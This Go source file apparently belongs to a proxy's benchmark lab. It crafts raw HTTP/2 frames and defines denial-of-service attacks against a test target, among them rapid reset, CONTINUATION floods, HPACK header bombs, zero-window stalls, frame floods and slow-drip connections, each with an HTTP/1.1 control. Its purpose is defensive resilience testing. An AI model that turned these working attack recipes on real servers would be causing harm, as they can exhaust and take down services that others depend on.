package attack

import (
	"cmp"
	"encoding/binary"
	"fmt"
	"io"
	"slices"
	"strings"
	"time"

	"weir/bench/lab/rig"
	"weir/internal/net/http2"
)

// group is the name of all attacks by HTTP/2, whose own names begin with groupPrefix, with their controls, whose names
// begin with controlPrefix: they send and hold as much by HTTP/1.1.
const (
	group         = "http2"
	groupPrefix   = "h2-"
	controlPrefix = "h1-"

	controlFlood   = controlPrefix + "flood"
	controlStuck   = controlPrefix + "stuck-read"
	controlUploads = controlPrefix + "uploads"
)

// overHTTP2 returns the attacks by HTTP/2 that are expensive, or hold connections: the published ones, and the floods
// of frames that cost their sender nothing. No good request may fail.
func overHTTP2() scene {
	const span = 6 * time.Second
	return scene{
		target: separate, base: span, settings: append(timeouts(), "HTTP2=all"), bounded: true,
		good:    rig.Load{URL: "/api/test", Rate: 500, For: span, Connections: 16},
		attacks: slices.Concat(controls(), resets(), blocks(), windows(), floods(), streams()),
	}
}

// Types and flags of frames (RFC 9113 6).
const (
	dataFrame, headersFrame, priorityFrame, resetFrame, settingsFrame    = 0, 1, 2, 3, 4
	pingFrame, goAwayFrame, windowFrame, continuationFrame, unknownFrame = 6, 7, 8, 9, 0xb

	endStream, endHeaders = 1, 4
)

// frame returns a frame.
func frame(kind, flags byte, id uint32, payload string) string {
	b := binary.BigEndian.AppendUint32(nil, uint32(len(payload))<<8|uint32(kind))
	b = binary.BigEndian.AppendUint32(append(b, flags), id)
	return string(b) + payload
}

// word returns the payload of a frame that has a number.
func word(n uint32) string { return string(binary.BigEndian.AppendUint32(nil, n)) }

// connect is what a client sends first: the preface, and SETTINGS with pairs of a number and a value.
func connect(settings ...uint32) string {
	payload := ""
	for i := 0; i < len(settings); i += 2 {
		payload += word(settings[i])[2:] + word(settings[i+1])
	}
	return "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(settingsFrame, 0, 0, payload)
}

// stream is the identifier of the i-th stream of a connection.
func stream(i int) uint32 { return uint32(2*i + 1) }

// fields is the field block of a request, with a method from the static table: none changes the table of the decoder.
func fields(method byte, path string) string {
	return string([]byte{method, 0x86, 0x01, 4}) + "weir" + string([]byte{0x04, byte(len(path))}) + path
}

// get and post return the head of a request. That of post has a body.
func get(i int, path string) string {
	return frame(headersFrame, endHeaders|endStream, stream(i), fields(0x82, path))
}

func post(i int, path string) string {
	return frame(headersFrame, endHeaders, stream(i), fields(0x83, path))
}

const (
	usualPath = "/api/test"
	longPath  = "/after/1s" // is answered after what follows the request
)

// flooding bounds the attackers that send without pause what the proxy closes connections for.
const flooding = 50

// held is how long the proxy may keep a connection whose requests time out, after which it is idle.
const held = 2*timeout + time.Second

// lingers is how long the proxy discards what still comes on a connection that it has ended.
const lingers = 6 * time.Second

// endless returns an attack that sends frames for i = 0, 1, … until the connection ends.
func endless(name, about, first string, frames func(i int) string) attack {
	return attack{name: name, about: about, conns: flooding, opens: flooding, life: lingers, text: first,
		control: controlFlood, then: func(a *attacker) { a.stream(a.frames, frames) }}
}

// controls returns what shows how much such floods, and answers that are not read, cost the machine whatever the
// protocol.
func controls() []attack {
	junk := strings.Repeat("j", pieceBytes)
	read := func(a *attacker) {
		a.answer()
		_, _ = io.Copy(io.Discard, a.in)
	}
	return []attack{
		{name: controlFlood, about: "junk without pause after a malformed HTTP/1.1 head", conns: flooding, opens: flooding,
			life: lingers, text: message(usual, "a field without a colon"),
			then: func(a *attacker) { a.stream(func() { read(a) }, func(int) string { return junk }) }},
		{name: controlStuck, about: "requests 10 MB by HTTP/1.1 and does not read", conns: stuck, opens: 4 * stuckOpens,
			small: true, streams: 1, life: held, text: message("GET /bytes/10000000"),
			then: func(a *attacker) { a.hold(held + 2*time.Second) }},
		{name: controlUploads, about: "requests by HTTP/1.1 whose bodies do not come", conns: many, opens: fastOpens,
			life: held, text: message("POST "+usualPath, "Transfer-Encoding: chunked"), then: (*attacker).answer},
	}
}

// resets returns the attacks that have work begun and abandoned: rapid reset (CVE-2023-44487), and those that make
// the proxy reset streams (MadeYouReset, CVE-2025-8671).
func resets() []attack {
	after := func(name, about string, then func(id uint32) string) attack {
		return endless("h2-"+name, about+", after each request", connect(), func(i int) string {
			return get(i, longPath) + then(stream(i))
		})
	}
	return []attack{
		after("rapid-reset", "RST_STREAM", func(id uint32) string { return frame(resetFrame, 0, id, word(8)) }),
		after("update-0", "WINDOW_UPDATE by 0", func(id uint32) string { return frame(windowFrame, 0, id, word(0)) }),
		after("update-overflow", "WINDOW_UPDATE beyond 2^31-1",
			func(id uint32) string { return frame(windowFrame, 0, id, word(1<<31-1)) }),
		after("late-data", "DATA", func(id uint32) string { return frame(dataFrame, endStream, id, "x") }),
		after("late-headers", "HEADERS",
			func(id uint32) string { return frame(headersFrame, endStream|endHeaders, id, "\x82") }),
		after("priority-size", "PRIORITY of a wrong size",
			func(id uint32) string { return frame(priorityFrame, 0, id, "1234") }),
		after("priority-self", "PRIORITY that depends on itself",
			func(id uint32) string { return frame(priorityFrame, 0, id, word(id)+"\x10") }),
		endless("h2-malformed", "requests whose body is longer than Content-Length", connect(), func(i int) string {
			head := fields(0x83, longPath) + "\x0f\x0d\x011"
			return frame(headersFrame, endHeaders, stream(i), head) + frame(dataFrame, endStream, stream(i), "ab")
		}),
	}
}

// abandoned returns the attack whose requests are reset as often as a connection may, but not given up by the target.
func abandoned() attack {
	const burst = 90
	reset := func(i int) string { return get(i, usualPath) + frame(resetFrame, 0, stream(i), word(8)) }
	text := connect()
	for i := range burst {
		text += reset(i)
	}
	return attack{name: "h2-resets",
		about: "4 connections reset 90 requests each at once, and then 30 a second, which 8 workers × 100 ms serve all the same",
		conns: 4, opens: 4, text: text, from: 1, goal: goal, then: func(a *attacker) {
			a.pace(time.Second/30, func(i int) string { return reset(burst + i) })
		}}
}

// blocks returns the attacks by field blocks: without end (CVE-2024-27316), and small ones that decode to large
// heads (CVE-2016-6581, CVE-2026-49975).
func blocks() []attack {
	open := connect() + frame(headersFrame, endStream, 1, fields(0x82, usualPath))
	bomb := func(name, about, block string) attack {
		return endless("h2-bomb-"+name, about, connect(), func(i int) string {
			return frame(headersFrame, endHeaders|endStream, stream(i), fields(0x82, usualPath)+block)
		})
	}
	return []attack{
		endless("h2-continuation", "CONTINUATION of 16 KiB without end", open, func(int) string {
			return frame(continuationFrame, 0, 1, "\x00\x01x\x7f\x81\x7f"+strings.Repeat("a", 16384-6))
		}),
		endless("h2-continuation-empty", "empty CONTINUATION without end", open,
			func(int) string { return frame(continuationFrame, 0, 1, "") }),
		{name: "h2-continuation-slow", about: "a byte of CONTINUATION every 2.5 s", conns: 1000, opens: fastOpens,
			life: timeout, control: baseline, text: open + frame(continuationFrame, 0, 1, strings.Repeat("a", 1000))[:9],
			then: func(a *attacker) { a.drip("a") }},
		bomb("table", "a field of 3.9 KB from the table, 12,000 times",
			"\x40\x01x\x7f\xbd\x1d"+strings.Repeat("a", 3900)+strings.Repeat("\xbe", 12_000)),
		bomb("cookies", "16,000 cookies from the table", "\x60\x03a=b"+strings.Repeat("\xbe", 16_000)),
		bomb("empty", "16,000 fields without value", "\x40\x01x\x00"+strings.Repeat("\xbe", 16_000)),
		bomb("static", "16,000 fields of the static table", strings.Repeat("\x90", 16_000)),
		bomb("literals", "4,000 fields that are spelt out", strings.Repeat("\x00\x01x\x00", 4_000)),
		bomb("below", "19 KB of a table's field: just what is allowed", "\x40\x01x\x7f\xbd\x1d"+strings.Repeat("a", 3900)+
			strings.Repeat("\xbe", 4)),
	}
}

// windows returns the attacks that have responses sent and make no room for them (CVE-2019-9511, CVE-2019-9517).
func windows() []attack {
	large := func(n int) (text string) {
		for i := range n {
			text += get(i, "/bytes/10000000")
		}
		return text
	}
	wide := connect(4, 1<<31-1) + frame(windowFrame, 0, 0, word(1<<30))
	dribble := func(n int) func(a *attacker) {
		return func(a *attacker) {
			text := ""
			for i := range n {
				text += frame(windowFrame, 0, stream(i), word(1))
			}
			a.pace(500*time.Millisecond, func(int) string { return text })
		}
	}
	list := []attack{
		{name: "h2-window-0", about: "windows of 0 for 4 responses of 10 MB", conns: stuck / 4, opens: stuckOpens,
			streams: 4, life: held, text: connect(4, 0) + large(4), then: (*attacker).frames},
		{name: "h2-window-0-streams", about: "windows of 0 for 128 responses of 10 MB", conns: 2, opens: 1, from: 1,
			streams: 128, life: held, text: connect(4, 0) + large(128), then: (*attacker).frames},
		{name: "h2-window-dribble", about: "a byte of room for each of 4 responses every 500 ms", conns: stuck / 4,
			opens: stuckOpens, streams: 4, life: held, text: connect(4, 0) + large(4), then: dribble(4)},
		{name: "h2-stuck-read", about: "room for 4 responses of 10 MB, and does not read", conns: stuck / 4,
			opens: stuckOpens, streams: 4, small: true, life: held,
			text: wide + large(4),
			then: func(a *attacker) { a.hold(held + 2*time.Second) }},
		{name: "h2-unread", about: "responses of 10 KB without pause, and does not read", conns: 20, opens: 2, small: true,
			life: held, text: wide, then: func(a *attacker) {
				for i := 0; a.say([]byte(get(i, "/bytes/10000"))) && a.ctx.Err() == nil; i++ {
					a.hold(time.Millisecond)
				}
			}},
	}
	for i := range list {
		list[i].control = controlStuck
	}
	return list
}

// floods returns the attacks by frames without a message (CVE-2019-9512, -9513, -9515, -9518, CVE-2026-97032).
func floods() []attack {
	body := connect() + post(0, usualPath)
	each := func(name, about, first, frame string) attack {
		return endless("h2-"+name, about, first, func(int) string { return frame })
	}
	return []attack{
		each("ping", "PING", connect(), frame(pingFrame, 0, 0, "12345678")),
		each("settings", "SETTINGS", connect(), frame(settingsFrame, 0, 0, "")),
		each("settings-table", "SETTINGS_HEADER_TABLE_SIZE, 0 and 4096 in turn", connect(),
			frame(settingsFrame, 0, 0, "\x00\x01"+word(0))+frame(settingsFrame, 0, 0, "\x00\x01"+word(4096))),
		each("priority", "PRIORITY", connect(), frame(priorityFrame, 0, 5, word(1)+"\x10")),
		each("window-update", "WINDOW_UPDATE by 1", connect(), frame(windowFrame, 0, 0, word(1))),
		each("window-update-stream", "WINDOW_UPDATE by 1 of a request", body, frame(windowFrame, 0, 1, word(1))),
		each("unknown", "unknown frames", connect(), frame(unknownFrame, 0, 0, "x")),
		each("goaway", "GOAWAY", connect(), frame(goAwayFrame, 0, 0, word(0)+word(0))),
		each("data-empty", "empty DATA", body, frame(dataFrame, 0, 1, "")),
		each("data-padding", "DATA of a byte and 255 bytes of padding", body,
			frame(dataFrame, 8, 1, "\xff"+"x"+strings.Repeat("\x00", 255))),
	}
}

// many is how many connections take all that a target has, if each has a request.
const many = 500

// streams returns the attacks by many connections and streams, some of which are slow.
func streams() []attack {
	requests := func(n int) (text string) {
		for i := range n {
			text += post(i, usualPath)
		}
		return text
	}
	list := []attack{
		{name: "h2-idle", about: "sends nothing after the preface", conns: many, opens: fastOpens, life: lingers,
			text: connect(), then: (*attacker).frames},
		{name: "h2-preface-slow", about: "a byte of the preface every 2.5 s", conns: many, opens: fastOpens, life: timeout,
			text: connect()[:4], then: func(a *attacker) { a.drip("*") }},
		{name: "h2-frame-slow", about: "a byte of a frame every 2.5 s", conns: many, opens: fastOpens, life: timeout,
			text: connect() + frame(settingsFrame, 0, 0, strings.Repeat("a", 600))[:9],
			then: func(a *attacker) { a.drip("a") }},
		{name: "h2-uploads", about: fmt.Sprint(many, " connections with 128 requests whose bodies do not come"), conns: many,
			opens: 100, life: held, control: controlUploads, text: connect() + requests(128), then: (*attacker).frames},
	}
	for i := range list {
		list[i].control = cmp.Or(list[i].control, baseline)
	}
	return append(list, endless("h2-refused", "requests beyond the 128 that may be in progress", connect(),
		func(i int) string { return post(i, usualPath) }))
}

// frames reads frames until the connection ends, and counts how it was ended.
func (a *attacker) frames() {
	var head [9]byte
	var code http2.Code
	ended := false // by GOAWAY
	for {
		if _, err := io.ReadFull(a, head[:]); err != nil {
			break
		}
		payload := make([]byte, int(binary.BigEndian.Uint32(head[:])>>8))
		if _, err := io.ReadFull(a, payload); err != nil {
			break
		}
		if head[3] == goAwayFrame && len(payload) >= 8 {
			code, ended = http2.Code(binary.BigEndian.Uint32(payload[4:])), true
		}
	}
	if a.ctx.Err() != nil {
		return
	}
	a.fleet.count(func(t *tally) {
		if ended {
			t.goAways[code]++
		} else {
			t.answers[closedUnanswered]++
		}
	})
}

// pace sends frames for i = 0, 1, … every so often until the connection ends, and reads meanwhile.
func (a *attacker) pace(every time.Duration, frames func(i int) string) {
	a.beside(a.frames, func(gone <-chan struct{}) {
		tick := time.NewTicker(every)
		defer tick.Stop()
		for i := 0; ; i++ {
			select {
			case <-gone:
				return
			case <-tick.C:
				if !a.say([]byte(frames(i))) {
					return
				}
			}
		}
	})
}

// beside reads while send sends.
func (a *attacker) beside(read func(), send func(gone <-chan struct{})) {
	gone := make(chan struct{})
	go func() {
		defer close(gone)
		read()
	}()
	send(gone)
	_ = a.Close()
	<-gone
}

// Pieces of an endless attack.
const (
	pieceBytes = 16 << 10
	piecePause = 10 * time.Millisecond
)

// stream sends frames for i = 0, 1, … until nothing more is taken, also when the proxy has ended the connection. It
// reads meanwhile.
func (a *attacker) stream(read func(), frames func(i int) string) {
	a.beside(read, func(<-chan struct{}) {
		var b []byte
		for i := 0; a.ctx.Err() == nil; {
			for b = b[:0]; len(b) < pieceBytes; i++ {
				b = append(b, frames(i)...)
			}
			if !a.say(b) {
				return
			}
			a.hold(piecePause)
		}
	})
}
